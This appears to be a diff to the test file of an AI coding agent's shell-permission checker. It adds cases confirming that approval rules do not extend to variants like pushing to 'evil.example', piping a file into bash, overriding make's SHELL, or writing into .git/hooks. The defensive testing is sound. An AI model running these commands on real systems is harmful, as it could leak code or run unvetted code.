@@ -8,7 +8,7 @@ import { suggestedPrefix } from '../../../lib/agent/shell/prefix.ts'
 import { decideCommand } from '../../../lib/agent/permissions/decide.ts'
 import type { ApprovalRequest } from '../../../lib/agent/types.ts'
 import type { Approval } from '../../../lib/schema/question.ts'
-import { coveringIds, createGrants, ruleId } from '../../../lib/turn-context/grants.ts'
+import { coveringIds, createGrants, isCovered, ruleId } from '../../../lib/turn-context/grants.ts'
 import type { RuleScope } from '../../../lib/schema/question.ts'
 import { readRule, ruleText } from '../../../lib/turn-context/allow-rules.ts'
 import { createTestClock } from '../../_clock.ts'
@@ -227,6 +227,45 @@ rules('a rule and an exact command apply in their workspace or profile', () => {
     const inProfile = given(command, rule)
     assert.ok(covers(inProfile, command, other, other))
   }
+})
+
+rules(
+  'a rule for a runner covers neither another target, file, remote, nor what comes through a pipe',
+  () => {
+    for (const [base, rule, others] of [
+      [
+        'npm test',
+        'npm test *',
+        ['npm test --prefix x', 'npm test -- --config=/x', 'npm test ../x'],
+      ],
+      ['make test', 'make test *', ['make test deploy', 'make test SHELL=./x']],
+      [
+        'npx prettier a',
+        'npx prettier *',
+        ['npx prettier --write .git/hooks', 'npx prettier .git/x'],
+      ],
+      [
+        'git push origin',
+        'git push *',
+        ['git push git@evil.example:x main', 'git push evil.example:x'],
+      ],
+    ] as const) {
+      const id = given(base, rule)
+      assert.ok(covers(id, base), base)
+      for (const other of others) assert.not.ok(covers(id, other), other)
+    }
+    const piped = ask('cat x | bash')
+    assert.is(piped.lines, undefined)
+  },
+)
+
+rules('a rule covers the one part of a command that can change something', () => {
+  const id = given('npm test', 'npm test *', 'workspace')
+  const has = (ids: readonly string[]) => ids.includes(id)
+  for (const command of ['cd sub && npm test --silent 2>&1 | tail -5', 'npm test a; ls'])
+    assert.ok(isCovered(ask(command), work, has), command)
+  for (const command of ['npm test && rm x', 'npm test > x', 'cat x | npm test', 'npm test &'])
+    assert.not.ok(isCovered(ask(command), work, has), command)
 })
 
 rules('asks again when a command has new risk reasons', () => {
